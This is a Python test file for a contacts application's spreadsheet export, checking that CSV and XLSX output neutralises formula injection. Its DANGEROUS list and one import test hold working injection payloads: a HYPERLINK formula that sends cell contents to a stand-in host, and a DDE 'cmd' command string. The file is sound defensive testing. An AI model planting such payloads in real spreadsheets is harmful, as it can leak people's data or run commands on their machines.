from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contacts.import_reader import ImportReader
from contacts.spreadsheet import (
    FORMULA_TRIGGERS,
    dataframe_to_csv_bytes,
    dataframe_to_xlsx_bytes,
    rows_to_csv_bytes,
    rows_to_xlsx_bytes,
    safe_cell,
)

DANGEROUS = [
    '=HYPERLINK("http://x?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tcaché",
    "\rretour",
    "＝1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(data: bytes) -> list[tuple]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    return [tuple(c for c in row) for row in ws.iter_rows()]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_text_is_prefixed_with_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Jean", "jean@mairie.fr", "", "Saint-Étienne", "a=b", 42, -2, 1.5, None]
)
def test_plain_text_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value


def test_leading_spaces_do_not_hide_a_formula():
    assert safe_cell("  =1+1") == "'  =1+1"


def test_csv_export_neutralises_every_dangerous_cell():
    data = rows_to_csv_bytes(["Nom"], [[v] for v in DANGEROUS])
    assert [r[0] for r in read_csv(data)[1:]] == ["'" + v for v in DANGEROUS]


def test_csv_export_neutralises_the_header_too():
    assert read_csv(rows_to_csv_bytes(["=champ"], []))[0] == ["'=champ"]


def test_csv_export_is_excel_french_by_default():
    data = rows_to_csv_bytes(["Prénom", "Nom"], [["Zoé", "Œillet"]])
    assert data.startswith(b"\xef\xbb\xbf") and b"Pr\xc3\xa9nom;Nom\r\n" in data


def test_csv_export_writes_missing_values_as_empty_cells():
    data = rows_to_csv_bytes(None, [[None, float("nan"), pd.NA, "x"]])
    assert read_csv(data) == [["", "", "", "x"]]


def test_xlsx_export_prefixes_formulas_and_stores_them_as_text():
    cell = read_xlsx(rows_to_xlsx_bytes(["Nom"], [[DANGEROUS[0]]]))[1][0]
    assert cell.data_type == "s" and cell.value == "'" + DANGEROUS[0]


def test_xlsx_export_never_writes_a_formula():
    rows = read_xlsx(rows_to_xlsx_bytes(["=titre"], [[v] for v in DANGEROUS]))
    assert all(c.data_type != "f" for row in rows for c in row)


def test_xlsx_export_drops_characters_xml_forbids():
    cell = read_xlsx(rows_to_xlsx_bytes(None, [["Jean\x00\x07Pierre"]]))[0][0]
    assert cell.value == "JeanPierre"


def test_xlsx_export_keeps_numbers_and_dates_typed():
    day = dt.date(2024, 3, 1)
    row = read_xlsx(rows_to_xlsx_bytes(None, [[-2, 1.5, day]]))[0]
    assert (row[0].value, row[1].value, row[2].value.date()) == (-2, 1.5, day)


def test_xlsx_export_writes_aware_datetimes_as_utc_wall_time():
    paris = dt.timezone(dt.timedelta(hours=2))
    cell = read_xlsx(rows_to_xlsx_bytes(None, [[dt.datetime(2024, 6, 1, 12, tzinfo=paris)]]))[0][0]
    assert cell.value == dt.datetime(2024, 6, 1, 10)


def test_dataframe_csv_export_neutralises_titles_and_cells():
    df = pd.DataFrame({"=col": ["@SUM(1)", "ok"], "n": [1, 2]})
    assert read_csv(dataframe_to_csv_bytes(df)) == [["'=col", "n"], ["'@SUM(1)", "1"], ["ok", "2"]]


def test_dataframe_xlsx_export_keeps_numeric_columns_numeric():
    df = pd.DataFrame({"taux": [0.25, -0.5], "nom": ["-2+3", "x"]})
    rows = read_xlsx(dataframe_to_xlsx_bytes(df))
    assert [(r[0].value, r[1].value) for r in rows[1:]] == [(0.25, "'-2+3"), (-0.5, "x")]


def test_dataframe_xlsx_export_writes_integer_columns_as_numbers():
    rows = read_xlsx(dataframe_to_xlsx_bytes(pd.DataFrame({"envois": [3, 4]})))
    assert [r[0].value for r in rows[1:]] == [3, 4] and rows[1][0].data_type == "n"


def test_imported_formula_cell_is_neutralised_on_export(data_file):
    rows = {r.row: r for r in ImportReader(data_file("excel-cp1252-semicolon.csv"))}
    exported = read_csv(rows_to_csv_bytes(["Prénom"], [[rows[9].first_name]]))
    assert exported[1] == ["'" + '=HYPERLINK("http://x?"&A1;"clic")']


@settings(max_examples=200)
@given(st.text(max_size=20))
def test_no_text_leaves_safe_cell_starting_a_formula(value):
    out = safe_cell(value)
    assert not out or (
        out[0] not in FORMULA_TRIGGERS and out.lstrip(" \u00a0")[:1] not in FORMULA_TRIGGERS
    )
